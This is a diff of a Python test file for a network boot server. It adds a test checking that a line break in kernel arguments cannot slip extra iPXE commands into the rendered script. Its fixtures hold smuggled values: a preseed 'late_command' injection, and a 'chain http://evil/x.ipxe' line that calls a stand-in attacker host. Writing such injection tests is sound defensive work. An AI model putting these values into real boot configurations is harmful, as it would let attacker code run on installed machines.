@@ -78,3 +78,12 @@ def test_a_line_break_in_a_root_device_fails_the_render_instead_of_adding_a_dire
     bad = host(["/dev/sda"], ["/dev/sda\nd-i preseed/late_command string evil"])
     with pytest.raises(RenderError):
         scripts.preseed(CONFIG, bad, TOKEN, "install")
+
+
+def test_a_line_break_never_reaches_the_kernel_command_line() -> None:
+    """A value meant for the iPXE kernel line that holds a line break would add iPXE commands."""
+    config = BootServerConfig(advertise="10.0.0.1:8088", kernel_args="console=ttyS0\nchain http://evil/x.ipxe")
+    booting = host(["/dev/sda"], ["/dev/sda"])
+    with pytest.raises(RenderError):
+        scripts.host_script(config, "52:54:00:00:00:07", booting, TOKEN)
+    assert "kernel http://" in scripts.host_script(CONFIG, "52:54:00:00:00:07", booting, TOKEN)
